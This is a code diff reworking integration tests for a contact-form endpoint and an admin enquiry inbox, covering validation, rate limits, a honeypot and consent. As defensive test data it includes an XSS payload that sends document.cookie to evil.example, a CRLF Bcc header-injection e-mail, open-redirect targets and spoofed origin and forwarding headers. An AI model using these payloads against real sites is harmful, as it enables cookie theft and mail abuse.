@@ -11,9 +11,12 @@ import {
   type VentureId,
 } from '@portal/contract';
 import { describe, expect, it } from 'vitest';
-import { cms, freshAddress, json, urlencoded, visitor, type Reply } from './connection.ts';
+import { cms, freshAddress, json, urlencoded, visitor } from './connection.ts';
+import type { Reply } from './sender.ts';
 import { currentRevision, expectFailure } from './records.ts';
 import { administrator } from './session.ts';
+
+type Fields = Readonly<Record<string, unknown>>;
 
 const enquiry = {
   name: 'Kavitha S',
@@ -23,34 +26,43 @@ const enquiry = {
   message: 'Do you cater for a wedding\nof 200 guests?',
 };
 
-const post = (fields: Readonly<Record<string, unknown>>, from = freshAddress()): Promise<Reply> =>
-  visitor('POST', '/contact/send', { body: json(fields), from });
+/** Sends the form as its script does. @param over fields that are other than usual */
+const post = (over: Fields = {}, headers: Record<string, string> = {}, from = freshAddress()) =>
+  visitor('POST', '/contact/send', { body: json({ ...enquiry, ...over }), from, headers });
 
-const postForm = (fields: Readonly<Record<string, string>>, from = freshAddress()): Promise<Reply> =>
+/** Sends it as a browser does without its script. */
+const postForm = (over: Record<string, string> = {}, from = freshAddress(), origin = cms.siteOrigin) =>
   visitor('POST', '/contact/send', {
-    body: urlencoded(fields),
+    body: urlencoded({ ...enquiry, ...over }),
     from,
-    headers: { origin: cms.siteOrigin, accept: 'text/html,application/xhtml+xml' },
+    headers: { origin, accept: 'text/html,application/xhtml+xml' },
   });
 
 /** The newest enquiries. */
 const inbox = async (query = '') =>
   enquiryRecord.array().parse((await administrator('GET', `/enquiries${query}`)).json);
-
 const summary = async () => enquirySummary.parse((await administrator('GET', '/enquiries/summary')).json);
 
-/** How many there are. */
-const total = async (): Promise<number> => (await summary()).total;
+/** Does something, and holds that the inbox has so many enquiries more after it. */
+async function adding<T>(count: number, act: () => Promise<T>): Promise<T> {
+  const { total } = await summary();
+  const answer = await act();
+  expect((await summary()).total).toBe(total + count);
+  return answer;
+}
 
 /** Sends an enquiry and answers the stored one. */
-async function stored(fields: Readonly<Record<string, unknown>>) {
-  const reply = await post(fields);
+async function stored(over: Fields = {}) {
+  const reply = await post(over);
   expect(reply.status, reply.text).toBe(200);
   expect(reply.json).toEqual({ status: true });
   const [newest] = await inbox();
   if (newest === undefined) throw new Error('The inbox is empty.');
   return newest;
 }
+
+const isJustNow = (time: string | null | undefined): void =>
+  expect(Math.abs(Date.now() - Date.parse(time ?? ''))).toBeLessThan(60_000);
 
 /** The tags of the forms, and the site that each belongs to; two of them are written in the specification. */
 const tags: readonly (readonly [tag: string, venture: VentureId])[] = [
@@ -65,31 +77,36 @@ const tags: readonly (readonly [tag: string, venture: VentureId])[] = [
 
 describe('an enquiry', () => {
   it('that comes again with its key is stored once, and costs no second try', async () => {
-    const before = await total();
     const from = freshAddress();
-    const sendAs = (key: string) =>
-      visitor('POST', '/contact/send', { body: json(enquiry), from, headers: { 'idempotency-key': key } });
-    for (let count = 0; count <= limits.enquiries; count += 1) {
-      const reply = await sendAs('one enquiry');
+    const sendAs = async (key: string) => {
+      const reply = await post({}, { 'idempotency-key': key }, from);
       expect(reply.status, reply.text).toBe(200);
       expect(reply.json).toEqual({ status: true });
-    }
-    expect(await total()).toBe(before + 1);
-    expect((await sendAs('another enquiry')).status).toBe(200);
-    expect(await total()).toBe(before + 2);
-    for (const reply of await Promise.all(['at once', 'at once', 'at once'].map(sendAs))) {
-      expect(reply.status, reply.text).toBe(200);
-    }
-    expect(await total()).toBe(before + 3);
+    };
+    await adding(1, async () => {
+      for (let count = 0; count <= limits.enquiries; count += 1) await sendAs('one enquiry');
+    });
+    await adding(1, () => sendAs('another enquiry'));
+    await adding(1, () => Promise.all(['at once', 'at once', 'at once'].map(sendAs)));
   });
 
-  it.each(tags)('with the tag %s is stored before the reply and belongs to %s', async (tag, venture) => {
+  it.each(tags)('with the tag %s belongs to %s, from either form', async (tag, venture) => {
     const revision = await currentRevision();
-    const record = await stored({ ...enquiry, enquiry: tag });
-    expect(record).toMatchObject({ ...enquiry, enquiry: tag, venture, read: false });
-    expect(record).toMatchObject({ mail: 'none', mailFailure: '' });
-    expect(Math.abs(Date.now() - Date.parse(record.createdAt))).toBeLessThan(60_000);
+    const record = await stored({ enquiry: tag });
+    const state = { read: false, mail: 'none', mailFailure: '' };
+    expect(record).toMatchObject({ ...enquiry, ...state, enquiry: tag, venture });
+    isJustNow(record.createdAt);
     expect(await currentRevision()).toBe(revision);
+
+    const reply = await adding(1, () => postForm({ enquiry: tag, consent: privacyVersion }));
+    expect(reply.status, reply.text).toBe(303);
+    expect(reply.headers.location).toBe(`${cms.siteOrigin}${ventures[venture].contact}-thanks`);
+    expect((await inbox())[0]).toMatchObject({ name: enquiry.name, venture, consent: privacyVersion });
+
+    const withoutPhone = await post({ enquiry: tag, phone: ' ' });
+    if (venture === 'institute' || venture === 'grit')
+      expect(expectFailure(withoutPhone, 400).fields).toHaveProperty('phone');
+    else expect(withoutPhone.status, withoutPhone.text).toBe(200);
   });
 
   it('resets the agri tag to one that differs slightly', () => {
@@ -98,158 +115,90 @@ describe('an enquiry', () => {
     expect(enquiryTagAfterReset.replaceAll(' ', '')).toBe(enquiryTag.replaceAll(' ', ''));
   });
 
-  it('with an unknown tag, or none, is not lost', async () => {
-    for (const tag of ['Something else', '', undefined, null]) {
-      const record = await stored({ ...enquiry, enquiry: tag });
-      expect(record.venture).toBe('group');
-      expect(record.enquiry).toBe(tag ?? '');
-    }
+  it.each(['Something else', '', undefined, null])('with the tag %j is not lost', async (tag) => {
+    expect(await stored({ enquiry: tag })).toMatchObject({ venture: 'group', enquiry: tag ?? '' });
   });
 
-  it.each(['name', 'email', 'message'])('needs its %s', async (field) => {
-    const before = await total();
-    for (const value of [undefined, '', '   ', null]) {
-      const told = expectFailure(await post({ ...enquiry, [field]: value }), 400);
-      expect(told.fields).toHaveProperty(field);
-    }
-    expect(await total()).toBe(before);
-  });
-
-  it.each(tags)(
-    'with the tag %s needs a phone number only for two of the sites (%s)',
-    async (tag, venture) => {
-      const reply = await post({ ...enquiry, enquiry: tag, phone: ' ' });
-      if (venture === 'institute' || venture === 'grit') {
-        expect(expectFailure(reply, 400).fields).toHaveProperty('phone');
-      } else {
-        expect(reply.status, reply.text).toBe(200);
-      }
-    },
-  );
-
-  it('needs an e-mail address that looks like one', async () => {
-    for (const email of [
-      'nobody',
-      'a@b',
-      'a@example.com\r\nBcc: everyone@example.com',
-      'a@example.com, b@example.com',
-    ]) {
-      const told = expectFailure(
-        await post({ ...enquiry, email }),
-        400,
-        'Please enter a valid email address.',
-      );
-      expect(told.fields).toHaveProperty('email');
-    }
-  });
-
+  const blanks = [undefined, '', '   ', null];
   it.each([
-    ['name', 255],
-    ['phone', 255],
-    ['enquiry', 255],
-    ['message', 10_000],
-  ] as const)('takes a %s of %d characters and not more', async (field, length) => {
-    expect((await stored({ ...enquiry, [field]: 'அ'.repeat(length) }))[field]).toHaveLength(length);
-    expect(
-      expectFailure(await post({ ...enquiry, [field]: 'x'.repeat(length + 1) }), 400).fields,
-    ).toHaveProperty(field);
+    ['name', [...blanks, 'x'.repeat(limits.shortText + 1)]],
+    ['email', [...blanks, 'nobody', 'a@b', 'a@example.com\r\nBcc: everyone@example.com', 'a@b.in, c@d.in']],
+    ['message', [...blanks, 'x'.repeat(limits.longText + 1)]],
+    ['phone', ['x'.repeat(limits.shortText + 1)]],
+    ['enquiry', ['x'.repeat(limits.shortText + 1)]],
+    [elapsedField, [0, limits.enquiryMinimumMs - 1, -1]],
+  ])('is not stored with a wrong %s, which is named', async (field, values) => {
+    await adding(0, async () => {
+      for (const value of values) {
+        const told = expectFailure(await post({ [field]: value }), 400);
+        expect(told.fields, String(value)).toHaveProperty(field);
+        if (field === elapsedField) expect(told.error).toBe(enquiryTooQuick);
+        if (field === 'email' && !blanks.some((blank) => blank === value))
+          expect(told.error).toBe('Please enter a valid email address.');
+      }
+    });
   });
 
-  it('keeps script as text and trims', async () => {
+  it('keeps texts to their full length, script as text, trimmed', async () => {
+    const long = (length: number): string => 'அ'.repeat(length);
+    const most = { name: long(255), phone: long(255), enquiry: long(255), message: long(10_000) };
+    expect(await stored(most)).toMatchObject(most);
     const script = '<script>fetch("//evil.example/?"+document.cookie)</script>';
-    expect(await stored({ ...enquiry, name: ` ${script} `, message: script })).toMatchObject({
-      name: script,
-      message: script,
-    });
+    const texts = { name: script, message: script };
+    expect(await stored({ name: ` ${script} `, message: script })).toMatchObject(texts);
   });
 
   it('cannot choose what the inbox says of it', async () => {
-    const record = await stored({
-      ...enquiry,
-      id: 1,
-      read: true,
-      venture: 'infra',
-      createdAt: '2001-01-01T00:00:00Z',
-    });
+    const forged = { id: 1, read: true, venture: 'infra', createdAt: '2001-01-01T00:00:00Z' };
+    const record = await stored(forged);
     expect(record).toMatchObject({ read: false, venture: 'eats' });
-    expect(record.createdAt).not.toMatch(/^2001/);
+    isJustNow(record.createdAt);
   });
 
-  it('keeps which privacy notice was agreed to, and when', async () => {
-    const record = await stored({ ...enquiry, consent: privacyVersion, consentAt: '2001-01-01T00:00:00Z' });
-    expect(record.consent).toBe(privacyVersion);
-    expect(Math.abs(Date.now() - Date.parse(record.consentAt ?? ''))).toBeLessThan(60_000);
+  it('keeps which privacy notice was agreed to, and when, or is taken without', async () => {
+    const agreed = await stored({ consent: privacyVersion, consentAt: '2001-01-01T00:00:00Z' });
+    expect(agreed.consent).toBe(privacyVersion);
+    isJustNow(agreed.consentAt);
+    for (const consent of [undefined, null, '', 'yes', true, '1999-01-01'])
+      expect(await stored({ consent })).toMatchObject({ consent: '', consentAt: null });
   });
-
-  it.each([undefined, null, '', 'yes', true, '1999-01-01'])(
-    'with the consent %j is taken, and no consent is stored',
-    async (consent) => {
-      expect(await stored({ ...enquiry, consent })).toMatchObject({ consent: '', consentAt: null });
-    },
-  );
 
   it('of a robot that fills the hidden field is thanked and forgotten', async () => {
-    const before = await total();
-    const reply = await post({ ...enquiry, [honeypotField]: 'https://casino.example' });
-    expect(reply.status).toBe(200);
-    expect(reply.json).toEqual({ status: true });
-    expect(await total()).toBe(before);
+    const reply = await adding(0, () => post({ [honeypotField]: 'https://casino.example' }));
+    expect([reply.status, reply.json]).toEqual([200, { status: true }]);
   });
 
-  it('that its form sends sooner than a person could is not taken; one without script is never asked', async () => {
-    const before = await total();
-    for (const elapsed of [0, limits.enquiryMinimumMs - 1, -1]) {
-      const told = expectFailure(await post({ ...enquiry, [elapsedField]: elapsed }), 400, enquiryTooQuick);
-      expect(told.fields).toHaveProperty(elapsedField);
-    }
-    expect(await total()).toBe(before);
-    await stored({ ...enquiry, [elapsedField]: limits.enquiryMinimumMs });
-    expect((await postForm({ ...enquiry, [elapsedField]: '' })).status).toBe(303);
+  it('that took its time is taken; one without script is never asked', async () => {
+    await stored({ [elapsedField]: limits.enquiryMinimumMs });
+    expect((await postForm({ [elapsedField]: '' })).status).toBe(303);
   });
 
-  it('is one of five that an address may send for a while', async () => {
-    const from = freshAddress();
-    for (let sent = 0; sent < limits.enquiries; sent += 1) {
-      expect((await post(enquiry, from)).status).toBe(200);
-    }
-    const before = await total();
-    const reply = await post(enquiry, from);
-    const told = expectFailure(reply, 429);
-    expect(told.error).toMatch(/^Too many tries\. Please wait \d+ (seconds|minutes) and try again\.$/);
-    const wait = Number(reply.headers['retry-after']);
-    expect(wait).toBeGreaterThan(0);
-    expect(wait).toBeLessThanOrEqual(limits.enquiryWindowMs / 1000);
-    expect(await total()).toBe(before);
-    expect((await post(enquiry)).status).toBe(200);
-  });
-
-  it('is counted by the connection, not by a header that anyone can write', async () => {
-    const from = freshAddress();
-    const statuses: number[] = [];
-    for (let sent = 0; sent <= limits.enquiries; sent += 1) {
-      const reply = await visitor('POST', '/contact/send', {
-        body: json(enquiry),
-        from,
-        headers: { 'x-forwarded-for': `203.0.113.${sent}` },
-      });
-      statuses.push(reply.status);
-    }
-    expect(statuses.at(-1)).toBe(429);
-  });
+  it.each(['the script', 'a browser'])(
+    'of %s is one of five that an address may send for a while, whatever a header says',
+    async (by) => {
+      const from = freshAddress();
+      const sendNext = (index: number): Promise<Reply> =>
+        by === 'the script'
+          ? post({}, { 'x-forwarded-for': `203.0.113.${index}` }, from)
+          : postForm({}, from);
+      for (let sent = 0; sent < limits.enquiries; sent += 1)
+        expect((await sendNext(sent)).status).toBeLessThan(400);
+      const reply = await adding(0, () => sendNext(limits.enquiries));
+      const sentence = /Too many tries\. Please wait \d+ (seconds|minutes) and try again\./;
+      expect(reply.status).toBe(429);
+      expect(reply.text).toMatch(sentence);
+      expect(reply.headers['content-type']).toContain(by === 'the script' ? 'application/json' : 'text/html');
+      const wait = Number(reply.headers['retry-after']);
+      expect(wait).toBeGreaterThan(0);
+      expect(wait).toBeLessThanOrEqual(limits.enquiryWindowMs / 1000);
+      expect((await post()).status).toBe(200);
+    },
+  );
 });
 
 describe('an ordinary form post', () => {
-  it.each(tags)('with the tag %s leads to the thank-you page of %s', async (tag, venture) => {
-    const before = await total();
-    const reply = await postForm({ ...enquiry, enquiry: tag, consent: privacyVersion });
-    expect(reply.status, reply.text).toBe(303);
-    expect(reply.headers.location).toBe(`${cms.siteOrigin}${ventures[venture].contact}-thanks`);
-    expect(await total()).toBe(before + 1);
-    expect((await inbox())[0]).toMatchObject({ name: enquiry.name, venture, consent: privacyVersion });
-  });
-
   it('that cannot be taken says why on a page, and runs nothing that it was sent', async () => {
-    const reply = await postForm({ ...enquiry, message: '', name: '<script>alert(1)</script>' });
+    const reply = await postForm({ message: '', name: '<script>alert(1)</script>' });
     expect(reply.status).toBe(400);
     expect(reply.headers['content-type']).toMatch(/^text\/html/);
     expect(reply.text).toContain('Please write a message.');
@@ -257,62 +206,48 @@ describe('an ordinary form post', () => {
     expect(reply.text).toContain(ventures.eats.contact);
   });
 
-  it('sends no one anywhere else', async () => {
-    const reply = await postForm({ ...enquiry, redirect: '//evil.example', next: 'http://evil.example' });
-    expect(reply.status).toBe(303);
+  it('sends no one anywhere else, and comes from no other site', async () => {
+    const reply = await postForm({ redirect: '//evil.example', next: 'http://evil.example' });
     expect(reply.headers.location?.startsWith(`${cms.siteOrigin}/`)).toBe(true);
-  });
-
-  it('waits like the others', async () => {
-    const from = freshAddress();
-    for (let sent = 0; sent < limits.enquiries; sent += 1) await postForm(enquiry, from);
-    const reply = await postForm(enquiry, from);
-    expect(reply.status).toBe(429);
-    expect(reply.headers['content-type']).toMatch(/^text\/html/);
-    expect(Number(reply.headers['retry-after'])).toBeGreaterThan(0);
-    expect(reply.text).toMatch(/Too many tries/);
-  });
-
-  it('of another site is refused', async () => {
-    const reply = await visitor('POST', '/contact/send', {
-      body: urlencoded(enquiry),
-      from: freshAddress(),
-      headers: { origin: 'http://evil.example' },
-    });
-    expect(reply.status).toBe(403);
+    expect((await postForm({}, freshAddress(), 'http://evil.example')).status).toBe(403);
   });
 });
 
 describe('the inbox', () => {
-  it('has the newest first', async () => {
-    const first = await stored({ ...enquiry, name: 'First' });
-    const second = await stored({ ...enquiry, name: 'Second' });
-    expect((await inbox()).slice(0, 2).map(({ id }) => id)).toEqual([second.id, first.id]);
+  const oneCall = (method: string, id: number, body?: object): Promise<Reply> =>
+    administrator(method, `/enquiries/${id}`, body === undefined ? {} : { body: json(body) });
+
+  it('has the newest first, and answers one as it lists it', async () => {
+    const ids = [(await stored()).id, (await stored()).id];
+    const listed = await inbox();
+    expect(listed.slice(0, 2).map(({ id }) => id)).toEqual(ids.toReversed());
+    expect(enquiryRecord.parse((await oneCall('GET', ids[1] ?? 0)).json)).toEqual(listed[0]);
   });
 
   it('is told in numbers, which change with it', async () => {
-    const record = await stored(enquiry);
+    const record = await stored();
     const all = await inbox(`?limit=${limits.enquiryPageMost}`);
-    expect(await total(), 'more than one page: please page here').toBe(all.length);
-    const changes = all.map(({ updatedAt }) => updatedAt).toSorted();
     const first = await summary();
-    expect(first).toEqual({
+    expect(first, 'more than one page: please page here').toEqual({
       total: all.length,
       unread: all.filter(({ read }) => !read).length,
       waiting: all.filter(({ mail }) => mail === 'waiting').length,
       failed: all.filter(({ mail }) => mail === 'failed').length,
-      changedAt: changes.at(-1),
+      changedAt: all
+        .map(({ updatedAt }) => updatedAt)
+        .toSorted()
+        .at(-1),
     });
-    await administrator('PUT', `/enquiries/${record.id}`, { body: json({ read: true }) });
+    await oneCall('PUT', record.id, { read: true });
     const marked = await summary();
     expect(marked).toEqual({ ...first, unread: first.unread - 1, changedAt: marked.changedAt });
     expect(Date.parse(marked.changedAt ?? '')).toBeGreaterThan(Date.parse(first.changedAt ?? ''));
-    await administrator('DELETE', `/enquiries/${record.id}`);
+    await oneCall('DELETE', record.id);
     expect(await summary()).toMatchObject({ total: all.length - 1, unread: marked.unread });
   });
 
   it('comes in pages, and no enquiry is left out or comes twice', async () => {
-    while ((await total()) <= limits.enquiryPage) await stored(enquiry);
+    while ((await summary()).total <= limits.enquiryPage) await stored();
     const page = await inbox();
     expect(page).toHaveLength(limits.enquiryPage);
     const found = page.map(({ id }) => id);
@@ -320,9 +255,8 @@ describe('the inbox', () => {
       next = await inbox(`?limit=17&before=${found.at(-1)}`);
       found.push(...next.map(({ id }) => id));
     }
-    expect(found).toEqual(found.toSorted((one, other) => other - one));
-    expect(new Set(found).size).toBe(found.length);
-    expect(found).toHaveLength(await total());
+    expect(found).toEqual([...new Set(found)].toSorted((one, other) => other - one));
+    expect(found).toHaveLength((await summary()).total);
   });
 
   it.each(['limit=0', 'limit=201', 'limit=ten', 'limit=1.5', 'before=0', 'before=x', 'limit=1&limit=2'])(
@@ -333,68 +267,39 @@ describe('the inbox', () => {
     },
   );
 
-  it('deletes several enquiries, of which some may have gone already', async () => {
-    const [kept, first, second] = [await stored(enquiry), await stored(enquiry), await stored(enquiry)];
-    const before = await total();
-    await administrator('DELETE', `/enquiries/${first.id}`);
-    const ids = [first.id, second.id];
-    const reply = await administrator('POST', '/enquiries/delete', { body: json({ ids }) });
-    expect(reply.status, reply.text).toBe(200);
-    expect(reply.json).toEqual({ status: true });
-    expect(await total()).toBe(before - 2);
-    expect((await inbox())[0]?.id).toBe(kept.id);
-    const tooMany = Array.from({ length: limits.enquiryPageMost + 1 }, (_, index) => index + 1);
-    for (const wrong of [undefined, [], tooMany, ['1'], [0], [1.5], 'all', null]) {
-      const body = json({ ids: wrong });
-      const told = expectFailure(await administrator('POST', '/enquiries/delete', { body }), 400);
-      expect(told.error, JSON.stringify(wrong)).toBe('Please choose from 1 to 200 enquiries.');
-    }
-    expect(await total()).toBe(before - 2);
-  });
-
-  it('answers one enquiry', async () => {
-    const { id } = await stored(enquiry);
-    const reply = await administrator('GET', `/enquiries/${id}`);
-    expect(reply.status).toBe(200);
-    expect(enquiryRecord.parse(reply.json)).toEqual((await inbox())[0]);
-  });
-
   it('marks an enquiry as read and unread, and changes nothing else of it', async () => {
-    const record = await stored(enquiry);
+    const { id, message, name } = await stored();
     const revision = await currentRevision();
     for (const read of [true, false]) {
-      const body = json({ read, name: 'Somebody else', message: 'Something else' });
-      const reply = await administrator('PUT', `/enquiries/${record.id}`, { body });
+      const reply = await oneCall('PUT', id, { read, name: 'Somebody else', message: 'Something else' });
       expect(reply.status, reply.text).toBe(200);
-      expect(reply.json).toMatchObject({
-        id: record.id,
-        status: true,
-        read,
-        name: record.name,
-        message: record.message,
-      });
+      expect(reply.json).toMatchObject({ id, status: true, read, name, message });
     }
-    for (const value of [undefined, 'yes', 1, null]) {
-      const body = json({ read: value });
-      expectFailure(await administrator('PUT', `/enquiries/${record.id}`, { body }), 400);
-    }
+    for (const read of [undefined, 'yes', 1, null]) expectFailure(await oneCall('PUT', id, { read }), 400);
     expect(await currentRevision()).toBe(revision);
   });
 
-  it('deletes an enquiry', async () => {
-    const { id } = await stored(enquiry);
+  it('deletes one or several enquiries, of which some may have gone already', async () => {
+    const deleteMany = (ids: unknown) => administrator('POST', '/enquiries/delete', { body: json({ ids }) });
+    const [kept, first, second] = [await stored(), await stored(), await stored()];
     const revision = await currentRevision();
-    const reply = await administrator('DELETE', `/enquiries/${id}`);
-    expect(reply.status).toBe(200);
-    expect(reply.json).toEqual({ status: true, id });
-    expectFailure(await administrator('GET', `/enquiries/${id}`), 404);
+    const reply = await adding(-1, () => oneCall('DELETE', first.id));
+    expect([reply.status, reply.json]).toEqual([200, { status: true, id: first.id }]);
+    expectFailure(await oneCall('GET', first.id), 404);
+    const several = await adding(-1, () => deleteMany([first.id, second.id]));
+    expect([several.status, several.json]).toEqual([200, { status: true }]);
+    expect((await inbox())[0]?.id).toBe(kept.id);
+    const tooMany = Array.from({ length: limits.enquiryPageMost + 1 }, (_, index) => index + 1);
+    await adding(0, async () => {
+      for (const wrong of [undefined, [], tooMany, ['1'], [0], [1.5], 'all', null])
+        expectFailure(await deleteMany(wrong), 400, 'Please choose from 1 to 200 enquiries.');
+    });
     expect(await currentRevision()).toBe(revision);
   });
 
   it('is not part of the content', async () => {
-    await stored(enquiry);
-    const reply = await visitor('GET', '/content');
-    expect(reply.text).not.toContain(enquiry.email);
-    expect(reply.text).not.toContain('enquiries');
+    await stored();
+    const { text } = await visitor('GET', '/content');
+    expect(text).not.toMatch(new RegExp(`${enquiry.email}|enquiries`));
   });
 });
